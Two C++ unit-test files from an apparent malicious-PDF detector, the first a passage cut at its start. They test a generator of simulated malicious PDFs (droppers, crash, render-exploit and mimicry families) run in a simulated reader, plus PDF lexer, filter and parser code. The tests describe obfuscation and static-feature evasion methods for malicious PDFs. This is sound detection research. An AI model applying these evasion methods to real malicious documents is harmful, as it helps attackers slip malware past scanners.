namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

TEST(Builders, LoremTextCompressesLikeProse) {
  sp::Rng rng(1);
  const std::string text = cp::lorem_text(rng, 2000);
  EXPECT_GE(text.size(), 2000u);
  // Contains spaces and periods, no control characters.
  EXPECT_NE(text.find(' '), std::string::npos);
}

TEST(Builders, BuildsParseableMultiPageDocument) {
  sp::Rng rng(2);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(5, 500).add_padding_objects(10).set_info("Title", "T");
  pd::Document doc = pd::parse_document(builder.build());
  ASSERT_NE(doc.catalog(), nullptr);
  EXPECT_GT(doc.object_count(), 15u);
}

TEST(Builders, NamedJsAppearsInNamesTree) {
  sp::Rng rng(3);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.add_named_js("a", "var a = 1;").add_named_js("b", "var b = 2;");
  pd::Document doc = pd::parse_document(builder.build());
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  EXPECT_EQ(a.sites.size(), 2u);
  // Both sites triggered (reachable from /Names) and share one sequence.
  for (const auto& site : a.sites) EXPECT_TRUE(site.triggered);
  EXPECT_EQ(a.sites[0].sequence_id, a.sites[1].sequence_id);
}

TEST(Builders, NextChainBuilds) {
  sp::Rng rng(4);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var first = 1;");
  builder.chain_next_js("var second = 2;").chain_next_js("var third = 3;");
  pd::Document doc = pd::parse_document(builder.build());
  const co::JsChainAnalysis a = co::analyze_js_chains(doc);
  EXPECT_EQ(a.sites.size(), 3u);
  EXPECT_EQ(a.sequence_count, 1);
}

TEST(Builders, ObfuscationTransformsMoveStaticFeatures) {
  sp::Rng rng(5);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("evil();", /*in_stream=*/true);
  builder.hexify_js_keywords();
  builder.add_empty_objects_on_chain(2);
  builder.set_js_encoding_levels(3);
  pd::Document doc = pd::parse_document(builder.build(/*header_obfuscation=*/true));
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_TRUE(f.f2()) << "header";
  EXPECT_TRUE(f.f3()) << "hex keyword";
  EXPECT_TRUE(f.f4()) << "empty objects";
  EXPECT_TRUE(f.f5()) << "multi-encoding, got " << f.max_encoding_levels;
}

TEST(Generator, BenignSamplesParseAndHaveJsPerConfig) {
  cp::CorpusGenerator gen;
  auto benign = gen.generate_benign(120);
  ASSERT_EQ(benign.size(), 120u);
  std::size_t with_js = 0;
  for (const auto& s : benign) {
    EXPECT_FALSE(s.malicious);
    pd::Document doc = pd::parse_document(s.data);
    const bool has_js = co::analyze_js_chains(doc).has_javascript();
    EXPECT_EQ(has_js, s.has_javascript) << s.name;
    if (has_js) ++with_js;
  }
  // ~5.3% nominal; allow slack on a small sample.
  EXPECT_LT(with_js, 30u);
}

TEST(Generator, BenignWithJsAllCarryJs) {
  cp::CorpusGenerator gen;
  for (const auto& s : gen.generate_benign_with_js(40)) {
    pd::Document doc = pd::parse_document(s.data);
    EXPECT_TRUE(co::analyze_js_chains(doc).has_javascript()) << s.name;
  }
}

TEST(Generator, BenignChainRatiosMostlyLow) {
  cp::CorpusGenerator gen;
  auto benign = gen.generate_benign_with_js(60);
  std::size_t low = 0;
  for (const auto& s : benign) {
    pd::Document doc = pd::parse_document(s.data);
    if (co::analyze_js_chains(doc).chain_ratio() < 0.2) ++low;
  }
  // Fig. 6: ~90% of benign-with-JS under 0.2.
  EXPECT_GE(low, benign.size() * 7 / 10);
}

TEST(Generator, MaliciousChainRatiosMostlyHigh) {
  cp::CorpusGenerator gen;
  auto mal = gen.generate_malicious(80);
  std::size_t high = 0;
  for (const auto& s : mal) {
    pd::Document doc = pd::parse_document(s.data);
    if (co::analyze_js_chains(doc).chain_ratio() >= 0.2) ++high;
  }
  // Fig. 6: ~95% of malicious at or above 0.2.
  EXPECT_GE(high, mal.size() * 8 / 10);
}

TEST(Generator, MaliciousMarginalsTrackTableVi) {
  cp::CorpusGenerator gen;
  auto mal = gen.generate_malicious(400);
  std::size_t header = 0, hex = 0, multi = 0, none = 0;
  for (const auto& s : mal) {
    pd::Document doc = pd::parse_document(s.data);
    const co::StaticFeatures f = co::extract_static_features(doc);
    if (f.f2()) ++header;
    if (f.f3()) ++hex;
    if (f.max_encoding_levels >= 2) ++multi;
    if (f.max_encoding_levels == 0) ++none;
  }
  // Paper: header 7.8%, hex 7.4%, multi-encoding ~1%, no encoding ~3.2%.
  EXPECT_GT(header, 8u);
  EXPECT_LT(header, 80u);
  EXPECT_GT(hex, 8u);
  EXPECT_LT(hex, 80u);
  EXPECT_LT(multi, 24u);
  EXPECT_LT(none, 40u);
}

TEST(Generator, SamplesAreDeterministicPerSeed) {
  cp::CorpusConfig cfg;
  cfg.seed = 777;
  cp::CorpusGenerator a(cfg), b(cfg);
  auto sa = a.generate_malicious(5);
  auto sb = b.generate_malicious(5);
  for (std::size_t i = 0; i < 5; ++i) {
    EXPECT_EQ(sa[i].data, sb[i].data) << i;
    EXPECT_EQ(sa[i].family, sb[i].family);
  }
}

// --- ground-truth behaviour against the reader -----------------------------

namespace {

rd::OpenResult open_in_reader(const cp::Sample& s, const std::string& version = "9.0") {
  sy::Kernel kernel;
  rd::ReaderConfig cfg;
  cfg.version = version;
  rd::ReaderSim reader(kernel, cfg);
  return reader.open_document(s.data, s.name);
}

}  // namespace

TEST(GeneratorBehaviour, DropperExploitsOnAcrobat9) {
  cp::CorpusConfig cfg;
  cfg.seed = 99;
  // Force the dropper path by zeroing the other family fractions.
  cfg.frac_noise = cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
  cfg.frac_render_context = cfg.frac_staged = cfg.frac_delayed = 0;
  cfg.frac_egghunt = cfg.frac_inject = cfg.frac_shell = 0;
  cp::CorpusGenerator gen(cfg);
  int fired = 0;
  auto samples = gen.generate_malicious(10);
  for (const auto& s : samples) {
    auto r = open_in_reader(s);
    EXPECT_TRUE(r.js_ran) << s.name << " family=" << s.family;
    if (!r.fired_cves.empty()) ++fired;
  }
  EXPECT_GE(fired, 8) << "droppers should exploit reliably";
}

TEST(GeneratorBehaviour, NoiseSamplesDoNothing) {
  cp::CorpusConfig cfg;
  cfg.seed = 100;
  cfg.frac_noise = 1.0;
  cp::CorpusGenerator gen(cfg);
  for (const auto& s : gen.generate_malicious(8)) {
    ASSERT_TRUE(s.expect_noise) << s.family;
    auto r = open_in_reader(s);
    EXPECT_TRUE(r.fired_cves.empty()) << s.name;
    EXPECT_FALSE(r.crashed) << s.name;
    EXPECT_LT(r.js_reported_bytes, 1u << 20) << "noise must not spray";
  }
}

TEST(GeneratorBehaviour, CrashSamplesCrash) {
  cp::CorpusConfig cfg;
  cfg.seed = 101;
  cfg.frac_noise = 0;
  cfg.frac_crash_plain = 1.0;
  cp::CorpusGenerator gen(cfg);
  for (const auto& s : gen.generate_malicious(6)) {
    ASSERT_TRUE(s.expect_crash) << s.family;
    EXPECT_FALSE(s.expect_detectable);
    auto r = open_in_reader(s);
    EXPECT_TRUE(r.crashed) << s.name;
    EXPECT_TRUE(r.fired_cves.empty());
  }
}

TEST(GeneratorBehaviour, RenderFamilyExploitsOutOfJs) {
  cp::CorpusConfig cfg;
  cfg.seed = 102;
  cfg.frac_noise = cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
  cfg.frac_render_context = 1.0;
  cp::CorpusGenerator gen(cfg);
  int fired = 0;
  for (const auto& s : gen.generate_malicious(10)) {
    EXPECT_EQ(s.family.rfind("malicious/render-", 0), 0u) << s.family;
    auto r = open_in_reader(s);
    if (!r.fired_cves.empty()) ++fired;
  }
  // Flash (CVE-2010-3654) works on 9; CoolType/U3D/TIFF/JBIG2 work on 8/9.
  EXPECT_GE(fired, 8);
}

TEST(GeneratorBehaviour, BenignSamplesNeverTouchTheKernelSurface) {
  cp::CorpusGenerator gen;
  for (const auto& s : gen.generate_benign_with_js(25)) {
    sy::Kernel kernel;
    rd::ReaderSim reader(kernel);
    auto r = reader.open_document(s.data, s.name);
    EXPECT_FALSE(r.crashed) << s.name;
    EXPECT_TRUE(r.fired_cves.empty()) << s.name;
    // No dropper/exec/inject syscalls; SOAP submitters may connect.
    for (const auto& e : kernel.event_log()) {
      EXPECT_TRUE(e.api == "connect") << s.name << " called " << e.api;
    }
    EXPECT_LT(r.js_reported_bytes, 50u << 20) << s.name;
  }
}

TEST(GeneratorBehaviour, CrossDocumentPairSplitsTheAttack) {
  cp::CorpusGenerator gen;
  auto [dropper, executor] = gen.generate_cross_document_pair();
  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  auto r1 = reader.open_document(dropper.data, dropper.name);
  ASSERT_EQ(r1.fired_cves.size(), 1u);
  // The dropped file exists but nothing executed it yet.
  std::size_t procs_before = kernel.processes().size();
  auto r2 = reader.open_document(executor.data, executor.name);
  ASSERT_EQ(r2.fired_cves.size(), 1u);
  EXPECT_GT(kernel.processes().size(), procs_before);
}

TEST(GeneratorBehaviour, MimicryLooksStaticallyBenignButExploits) {
  cp::CorpusGenerator gen;
  cp::Sample s = gen.make_mimicry_variant(0);
  pd::Document doc = pd::parse_document(s.data);
  const co::StaticFeatures f = co::extract_static_features(doc);
  EXPECT_EQ(f.binary_sum(), 0) << "mimicry must null out static features";
  EXPECT_LT(f.js_chain_ratio, 0.2);
  auto r = open_in_reader(s);
  ASSERT_EQ(r.fired_cves.size(), 1u) << "but it still exploits";
}

TEST(GeneratorBehaviour, ObfuscationStylesStillExecute) {
  // eval-, charcode- and title-obfuscated sprays must all reach the
  // trigger; sweep seeds until each style appears at least once.
  cp::CorpusConfig cfg;
  cfg.seed = 103;
  cfg.frac_noise = cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
  cfg.frac_render_context = cfg.frac_staged = cfg.frac_delayed = 0;
  cfg.frac_egghunt = cfg.frac_inject = cfg.frac_shell = 0;
  cp::CorpusGenerator gen(cfg);
  auto samples = gen.generate_malicious(30);
  int fired = 0;
  for (const auto& s : samples) {
    auto r = open_in_reader(s);
    if (!r.fired_cves.empty()) ++fired;
  }
  EXPECT_GE(fired, 26) << "obfuscated sprays must still work";
}

TEST(GeneratorBehaviour, AlternateTriggerSurfacesStillExploit) {
  // Page-/AA- and /Names-triggered malicious documents must behave like
  // their /OpenAction siblings.
  cp::CorpusConfig cfg;
  cfg.seed = 0x7A1;
  cfg.frac_noise = cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
  cfg.frac_render_context = cfg.frac_staged = cfg.frac_delayed = 0;
  cfg.frac_egghunt = cfg.frac_inject = cfg.frac_shell = 0;
  cp::CorpusGenerator gen(cfg);
  int page_aa = 0, named = 0, fired = 0, total = 0;
  for (const auto& s : gen.generate_malicious(40)) {
    ++total;
    if (s.family.find("+page-aa") != std::string::npos) ++page_aa;
    if (s.family.find("+named") != std::string::npos) ++named;
    auto r = open_in_reader(s);
    if (!r.fired_cves.empty()) ++fired;
  }
  EXPECT_GT(page_aa, 0) << "corpus should include page-AA triggers";
  EXPECT_GT(named, 0) << "corpus should include named-JS triggers";
  EXPECT_GE(fired, total * 9 / 10);
}
