// Unit and property tests for the PDF substrate: lexer, object model,
// filters, parser, writer round-trips, object graph.
#include <gtest/gtest.h>

#include "pdf/document.hpp"
#include "pdf/filters.hpp"
#include "pdf/graph.hpp"
#include "pdf/lexer.hpp"
#include "pdf/object.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "support/rng.hpp"

namespace pd = pdfshield::pdf;
namespace sp = pdfshield::support;

// ---------------------------------------------------------------------------
// Lexer
// ---------------------------------------------------------------------------

TEST(Lexer, TokenizesNumbers) {
  sp::Bytes data = sp::to_bytes("42 -7 +3 3.14 -.5 4.");
  pd::Lexer lex(data);
  EXPECT_EQ(lex.next().int_value, 42);
  EXPECT_EQ(lex.next().int_value, -7);
  EXPECT_EQ(lex.next().int_value, 3);
  EXPECT_DOUBLE_EQ(lex.next().real_value, 3.14);
  EXPECT_DOUBLE_EQ(lex.next().real_value, -0.5);
  EXPECT_DOUBLE_EQ(lex.next().real_value, 4.0);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kEof);
}

TEST(Lexer, DecodesNameHexEscapes) {
  // The paper's F3 feature: /JavaScr#69pt hides the keyword "JavaScript".
  sp::Bytes data = sp::to_bytes("/JavaScr#69pt /Normal");
  pd::Lexer lex(data);
  pd::Token t = lex.next();
  EXPECT_EQ(t.kind, pd::TokenKind::kName);
  EXPECT_EQ(t.text, "JavaScript");
  EXPECT_EQ(t.raw, "/JavaScr#69pt");
  t = lex.next();
  EXPECT_EQ(t.text, "Normal");
  EXPECT_TRUE(t.raw.empty());
}

TEST(Lexer, LiteralStringEscapesAndNesting) {
  sp::Bytes data = sp::to_bytes(R"((a\(b\)c (nested) \n\t\\ \101))");
  pd::Lexer lex(data);
  pd::Token t = lex.next();
  EXPECT_EQ(sp::to_string(t.bytes), "a(b)c (nested) \n\t\\ A");
}

TEST(Lexer, HexStringWithOddDigits) {
  sp::Bytes data = sp::to_bytes("<48656C6C6F7>");
  pd::Lexer lex(data);
  pd::Token t = lex.next();
  EXPECT_TRUE(t.hex_string);
  EXPECT_EQ(sp::to_string(t.bytes), "Hellop");  // odd digit pads with 0
}

TEST(Lexer, SkipsCommentsAndWhitespace) {
  sp::Bytes data = sp::to_bytes("% a comment\n /Key %trailing\n 7");
  pd::Lexer lex(data);
  EXPECT_EQ(lex.next().text, "Key");
  EXPECT_EQ(lex.next().int_value, 7);
}

TEST(Lexer, DictDelimiters) {
  sp::Bytes data = sp::to_bytes("<< /A 1 >> [ ]");
  pd::Lexer lex(data);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kDictOpen);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kName);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kInteger);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kDictClose);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kArrayOpen);
  EXPECT_EQ(lex.next().kind, pd::TokenKind::kArrayClose);
}

TEST(Lexer, StringDecodeAllocationsBoundedByStringExtent) {
  // Every transforming string used to size its arena decode buffer by the
  // REMAINING DOCUMENT length; k tiny strings in front of a large document
  // then cost O(k·filesize) — a trivially crafted memory bomb for a
  // scanner of adversarial input. The buffers must scale with the
  // strings' own extents.
  std::string text;
  for (int i = 0; i < 1000; ++i) text += "<4a53> (a\\)b) ";
  text += std::string(100'000, ' ');  // the "rest of the document"
  const sp::Bytes data = sp::to_bytes(text);
  sp::Arena arena;
  pd::Lexer lex(data, arena);
  int strings = 0;
  for (pd::Token t = lex.next(); t.kind != pd::TokenKind::kEof;
       t = lex.next()) {
    if (t.kind == pd::TokenKind::kString) ++strings;
  }
  EXPECT_EQ(strings, 2000);
  // Old sizing: ≥ 1000 × ~50KB ≈ 50MB. New: a few bytes per string.
  EXPECT_LT(arena.bytes_used(), 64u * 1024);
}

TEST(Lexer, MalformedStringsAllocateNothingAndKeepDiagnostics) {
  const auto lex_one = [](std::string_view text, sp::Arena& arena) {
    const sp::Bytes data = sp::to_bytes(text);
    pd::Lexer lex(data, arena);
    return lex.next();  // throws
  };
  sp::Arena arena;
  EXPECT_THROW(lex_one("(open \\( forever", arena), sp::ParseError);
  EXPECT_THROW(lex_one("(trailing\\", arena), sp::ParseError);
  EXPECT_THROW(lex_one("<4a5", arena), sp::ParseError);
  EXPECT_THROW(lex_one("<4aZ3>", arena), sp::ParseError);
  EXPECT_EQ(arena.bytes_used(), 0u);
}

TEST(Lexer, EncodeNameEscapesSpecials) {
  EXPECT_EQ(pd::encode_name("Simple"), "/Simple");
  EXPECT_EQ(pd::encode_name("A B"), "/A#20B");
  EXPECT_EQ(pd::encode_name("X#Y"), "/X#23Y");
}

// ---------------------------------------------------------------------------
// Object model
// ---------------------------------------------------------------------------

TEST(ObjectModel, DictPreservesInsertionOrderAndOverwrites) {
  pd::Dict d;
  d.set("B", pd::Object(1));
  d.set("A", pd::Object(2));
  d.set("B", pd::Object(3));
  ASSERT_EQ(d.size(), 2u);
  EXPECT_EQ(d.entries()[0].key, "B");
  EXPECT_EQ(d.at("B").as_int(), 3);
  EXPECT_TRUE(d.erase("A"));
  EXPECT_FALSE(d.erase("A"));
}

TEST(ObjectModel, EqualityIgnoresDictOrder) {
  pd::Dict a, b;
  a.set("X", pd::Object(1));
  a.set("Y", pd::Object(2));
  b.set("Y", pd::Object(2));
  b.set("X", pd::Object(1));
  EXPECT_EQ(pd::Object(a), pd::Object(b));
}

TEST(ObjectModel, TypeAccessorsThrowOnMismatch) {
  pd::Object obj(42);
  EXPECT_TRUE(obj.is_int());
  EXPECT_THROW(obj.as_name(), sp::LogicError);
  EXPECT_DOUBLE_EQ(obj.as_number(), 42.0);
}

TEST(ObjectModel, NameValueAccessor) {
  EXPECT_EQ(pd::Object::name("JS").name_value().value(), "JS");
  EXPECT_FALSE(pd::Object(1).name_value().has_value());
}

// ---------------------------------------------------------------------------
// Filters
// ---------------------------------------------------------------------------

TEST(Filters, AsciiHexRoundTrip) {
  sp::Bytes data = sp::to_bytes("binary\x00\xff payload");
  sp::Bytes enc = pd::encode_filter("ASCIIHexDecode", data);
  EXPECT_EQ(pd::decode_filter("ASCIIHexDecode", enc, nullptr), data);
}

TEST(Filters, Ascii85RoundTrip) {
  sp::Rng rng(21);
  for (std::size_t n : {0u, 1u, 2u, 3u, 4u, 5u, 63u, 1000u}) {
    sp::Bytes data = rng.bytes(n);
    sp::Bytes enc = pd::encode_filter("ASCII85Decode", data);
    EXPECT_EQ(pd::decode_filter("ASCII85Decode", enc, nullptr), data) << n;
  }
}

TEST(Filters, Ascii85ZeroGroupShortcut) {
  sp::Bytes zeros(8, 0);
  sp::Bytes enc = pd::encode_filter("ASCII85Decode", zeros);
  EXPECT_EQ(sp::to_string(enc), "zz~>");
  EXPECT_EQ(pd::decode_filter("ASCII85Decode", enc, nullptr), zeros);
}

TEST(Filters, RunLengthRoundTrip) {
  sp::Bytes data = sp::to_bytes("aaaaaaaaaabcdefggggggggggggggggh");
  sp::Bytes enc = pd::encode_filter("RunLengthDecode", data);
  EXPECT_LT(enc.size(), data.size());
  EXPECT_EQ(pd::decode_filter("RunLengthDecode", enc, nullptr), data);
}

TEST(Filters, FlateRoundTrip) {
  sp::Bytes data = sp::to_bytes(std::string(10000, 'q') + "tail");
  sp::Bytes enc = pd::encode_filter("FlateDecode", data);
  EXPECT_LT(enc.size(), data.size() / 10);
  EXPECT_EQ(pd::decode_filter("FlateDecode", enc, nullptr), data);
}

TEST(Filters, MultiLevelChainRoundTrip) {
  // The paper's F5 feature relies on multi-level encodings actually
  // working; verify a 3-deep chain decodes.
  sp::Bytes plain = sp::to_bytes("var s = 'malicious'; app.alert(s);");
  const std::vector<std::string> chain = {"ASCIIHexDecode", "FlateDecode",
                                          "RunLengthDecode"};
  pd::EncodedStream enc = pd::encode_stream(plain, chain);
  pd::Stream s;
  s.dict.set("Filter", enc.filter);
  s.data = enc.data;
  EXPECT_EQ(pd::decode_stream(s), plain);
  ASSERT_TRUE(enc.filter.is_array());
  EXPECT_EQ(enc.filter.as_array().size(), 3u);
}

TEST(Filters, FilterChainFromNameOrArray) {
  pd::Dict d1;
  d1.set("Filter", pd::Object::name("FlateDecode"));
  EXPECT_EQ(pd::filter_chain(d1), std::vector<std::string>{"FlateDecode"});
  pd::Dict d2;
  pd::Array arr;
  arr.push_back(pd::Object::name("ASCIIHexDecode"));
  arr.push_back(pd::Object::name("FlateDecode"));
  d2.set("Filter", pd::Object(arr));
  EXPECT_EQ(pd::filter_chain(d2).size(), 2u);
  pd::Dict d3;
  EXPECT_TRUE(pd::filter_chain(d3).empty());
}

TEST(Filters, UnsupportedFilterThrows) {
  EXPECT_THROW(pd::decode_filter("DCTDecode", {}, nullptr), sp::DecodeError);
}

TEST(Filters, LzwDecodesKnownVector) {
  // Example from the PDF Reference §3.3.3: (45 45 45 45 45 65 45 45 45 66)
  // encodes to 80 0B 60 50 22 0C 0C 85 01.
  sp::Bytes enc = {0x80, 0x0B, 0x60, 0x50, 0x22, 0x0C, 0x0C, 0x85, 0x01};
  sp::Bytes expect = {45, 45, 45, 45, 45, 65, 45, 45, 45, 66};
  EXPECT_EQ(pd::decode_filter("LZWDecode", enc, nullptr), expect);
}

// ---------------------------------------------------------------------------
// Parser / writer
// ---------------------------------------------------------------------------

TEST(Parser, ParsesSimpleObjectExpressions) {
  EXPECT_EQ(pd::parse_object_text("42").as_int(), 42);
  EXPECT_TRUE(pd::parse_object_text("null").is_null());
  EXPECT_TRUE(pd::parse_object_text("true").as_bool());
  EXPECT_EQ(pd::parse_object_text("/Name").as_name().value, "Name");
  EXPECT_EQ(pd::parse_object_text("(str)").as_string().data, sp::to_bytes("str"));
  EXPECT_EQ(pd::parse_object_text("[1 2 3]").as_array().size(), 3u);
}

TEST(Parser, ParsesIndirectReference) {
  pd::Object obj = pd::parse_object_text("[10 0 R 5]");
  const pd::Array& arr = obj.as_array();
  ASSERT_EQ(arr.size(), 2u);
  EXPECT_EQ(arr[0].as_ref(), (pd::Ref{10, 0}));
  EXPECT_EQ(arr[1].as_int(), 5);
}

TEST(Parser, TwoIntsWithoutRAreNotARef) {
  pd::Object obj = pd::parse_object_text("[10 20 30]");
  EXPECT_EQ(obj.as_array().size(), 3u);
  EXPECT_EQ(obj.as_array()[1].as_int(), 20);
}

TEST(Parser, ParsesNestedDict) {
  pd::Object obj = pd::parse_object_text(
      "<< /Type /Catalog /Kid << /A [1 2] /B (x) >> >>");
  const pd::Dict& d = obj.as_dict();
  EXPECT_EQ(d.at("Type").as_name().value, "Catalog");
  EXPECT_EQ(d.at("Kid").as_dict().at("A").as_array().size(), 2u);
}

namespace {

// Builds a minimal but complete document for parser tests.
std::string minimal_pdf() {
  return "%PDF-1.7\n"
         "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
         "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
         "3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n"
         "4 0 obj\n<< /Length 11 >>\nstream\nhello world\nendstream\nendobj\n"
         "trailer\n<< /Root 1 0 R /Size 5 >>\n"
         "startxref\n0\n%%EOF\n";
}

}  // namespace

TEST(Parser, ParsesMinimalDocument) {
  const sp::Bytes data = sp::to_bytes(minimal_pdf());
  pd::ParseStats stats;
  pd::Document doc = pd::parse_document(data, &stats);
  EXPECT_EQ(stats.indirect_objects, 4u);
  EXPECT_EQ(doc.object_count(), 4u);
  ASSERT_NE(doc.catalog(), nullptr);
  EXPECT_EQ(doc.catalog()->as_dict().at("Type").as_name().value, "Catalog");
  EXPECT_TRUE(doc.header().found);
  EXPECT_EQ(doc.header().version, "1.7");
  EXPECT_TRUE(doc.header().version_valid);
  const pd::Object* s = doc.object({4, 0});
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(sp::to_string(s->as_stream().data), "hello world");
}

TEST(Parser, HeaderObfuscationDetected) {
  // Header not at offset 0 but within 1024 bytes: found, offset > 0.
  std::string padded = "%garbage padding\n" + minimal_pdf();
  pd::Document doc = pd::parse_document(sp::to_bytes(padded));
  EXPECT_TRUE(doc.header().found);
  EXPECT_GT(doc.header().offset, 0u);
}

TEST(Parser, InvalidVersionDetected) {
  std::string bad = minimal_pdf();
  bad.replace(bad.find("1.7"), 3, "9.9");
  pd::Document doc = pd::parse_document(sp::to_bytes(bad));
  EXPECT_TRUE(doc.header().found);
  EXPECT_FALSE(doc.header().version_valid);
}

TEST(Parser, MissingHeaderStillParses) {
  std::string no_header = minimal_pdf();
  no_header = no_header.substr(no_header.find("1 0 obj"));
  pd::Document doc = pd::parse_document(sp::to_bytes(no_header));
  EXPECT_FALSE(doc.header().found);
  EXPECT_EQ(doc.object_count(), 4u);
}

TEST(Parser, StreamWithWrongLengthRecovers) {
  std::string bad =
      "%PDF-1.4\n"
      "1 0 obj\n<< /Length 9999 >>\nstream\npayload data\nendstream\nendobj\n"
      "trailer\n<< /Size 2 >>\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(bad));
  const pd::Object* s = doc.object({1, 0});
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(sp::to_string(s->as_stream().data), "payload data");
}

TEST(Parser, StreamWithIndirectLength) {
  std::string text =
      "%PDF-1.4\n"
      "1 0 obj\n<< /Length 2 0 R >>\nstream\nabcde\nendstream\nendobj\n"
      "2 0 obj\n5\nendobj\n"
      "trailer\n<< /Size 3 >>\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(text));
  EXPECT_EQ(sp::to_string(doc.object({1, 0})->as_stream().data), "abcde");
}

TEST(Parser, SkipsJunkBetweenObjects) {
  std::string junky =
      "%PDF-1.4\nrandom garbage ))) here\n"
      "1 0 obj\n<< /Type /Catalog >>\nendobj\n"
      "more (unterminated junk\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(junky));
  EXPECT_EQ(doc.object_count(), 1u);
}

TEST(Parser, ThrowsWhenNoObjectsAtAll) {
  EXPECT_THROW(pd::parse_document(sp::to_bytes("not a pdf at all")),
               sp::ParseError);
}

TEST(Parser, LaterTrailerWins) {
  std::string two_trailers =
      "%PDF-1.4\n"
      "1 0 obj\n<< /Type /Catalog /Tag (old) >>\nendobj\n"
      "2 0 obj\n<< /Type /Catalog /Tag (new) >>\nendobj\n"
      "trailer\n<< /Root 1 0 R >>\n"
      "trailer\n<< /Root 2 0 R >>\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(two_trailers));
  ASSERT_NE(doc.catalog(), nullptr);
  EXPECT_EQ(sp::to_string(doc.catalog()->as_dict().at("Tag").as_string().data),
            "new");
}

TEST(Document, ResolveFollowsChainsAndBreaksCycles) {
  pd::Document doc;
  doc.set_object({1, 0}, pd::Object(pd::Ref{2, 0}));
  doc.set_object({2, 0}, pd::Object(42));
  doc.set_object({3, 0}, pd::Object(pd::Ref{4, 0}));
  doc.set_object({4, 0}, pd::Object(pd::Ref{3, 0}));
  EXPECT_EQ(doc.resolve(pd::Object(pd::Ref{1, 0})).as_int(), 42);
  EXPECT_TRUE(doc.resolve(pd::Object(pd::Ref{3, 0})).is_null());
  EXPECT_TRUE(doc.resolve(pd::Object(pd::Ref{99, 0})).is_null());
}

TEST(Document, DecompressAllDecodesAndStripsFilters) {
  pd::Document doc;
  const sp::Bytes plain = sp::to_bytes("app.alert('hi');");
  pd::EncodedStream enc = pd::encode_stream(plain, {"FlateDecode"});
  pd::Stream s;
  s.dict.set("Filter", enc.filter);
  s.dict.set("Length", pd::Object(static_cast<std::int64_t>(enc.data.size())));
  s.data = enc.data;
  pd::Ref r = doc.add_object(pd::Object(s));
  EXPECT_EQ(doc.decompress_all(), 1u);
  const pd::Stream& out = doc.object(r)->as_stream();
  EXPECT_EQ(out.data, plain);
  EXPECT_FALSE(out.dict.contains("Filter"));
  EXPECT_EQ(out.dict.at("Length").as_int(),
            static_cast<std::int64_t>(plain.size()));
}

TEST(Writer, RoundTripsDocumentThroughParser) {
  const sp::Bytes original = sp::to_bytes(minimal_pdf());
  pd::Document doc = pd::parse_document(original);
  const sp::Bytes written = pd::write_document(doc);
  pd::Document again = pd::parse_document(written);
  EXPECT_EQ(again.object_count(), doc.object_count());
  for (const auto& [num, obj] : doc.objects()) {
    const pd::Object* other = again.object({num, 0});
    ASSERT_NE(other, nullptr) << "object " << num;
    EXPECT_EQ(*other, obj) << "object " << num;
  }
}

TEST(Writer, PreservesHexEscapedNameSpelling) {
  std::string text =
      "%PDF-1.4\n1 0 obj\n<< /S /JavaScr#69pt /JS (x) >>\nendobj\n"
      "trailer\n<< /Size 2 >>\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(text));
  const sp::Bytes out = pd::write_document(doc);
  const std::string written(sp::to_string(out));
  EXPECT_NE(written.find("/JavaScr#69pt"), std::string::npos);
}

TEST(Writer, BinaryStringSerializationRoundTrips) {
  pd::Document doc;
  sp::Rng rng(17);
  pd::Dict d;
  d.set("Data", pd::Object(pd::String{rng.bytes(64), false}));
  d.set("Hex", pd::Object(pd::String{rng.bytes(32), true}));
  pd::Ref r = doc.add_object(pd::Object(d));
  pd::Document again = pd::parse_document(pd::write_document(doc));
  EXPECT_EQ(*again.object(r), *doc.object(r));
}

TEST(Writer, JunkPrefixKeepsHeaderWithinSpecWindow) {
  pd::Document doc;
  doc.add_object(pd::parse_object_text("<< /Type /Catalog >>"));
  pd::WriteOptions opts;
  opts.junk_prefix_bytes = 500;
  const sp::Bytes out = pd::write_document(doc, opts);
  pd::Document again = pd::parse_document(out);
  EXPECT_TRUE(again.header().found);
  EXPECT_GT(again.header().offset, 400u);
}

// Property sweep: random object trees survive write -> parse.
class PdfRoundTrip : public ::testing::TestWithParam<int> {};

namespace {

pd::Object random_object(sp::Rng& rng, int depth) {
  const int choice = static_cast<int>(rng.below(depth > 2 ? 6 : 8));
  switch (choice) {
    case 0: return pd::Object::null();
    case 1: return pd::Object(rng.chance(0.5));
    case 2: return pd::Object(static_cast<std::int64_t>(rng.uniform(0, 1 << 30)) -
                              (1 << 29));
    case 3: return pd::Object(static_cast<double>(rng.uniform(0, 1000)) / 8.0);
    case 4: return pd::Object(pd::String{rng.bytes(rng.below(20)), rng.chance(0.3)});
    case 5: return pd::Object::name(rng.identifier(1 + rng.below(10)));
    case 6: {
      pd::Array arr;
      const std::size_t n = rng.below(4);
      for (std::size_t i = 0; i < n; ++i) arr.push_back(random_object(rng, depth + 1));
      return pd::Object(arr);
    }
    default: {
      pd::Dict d;
      const std::size_t n = rng.below(4);
      for (std::size_t i = 0; i < n; ++i) {
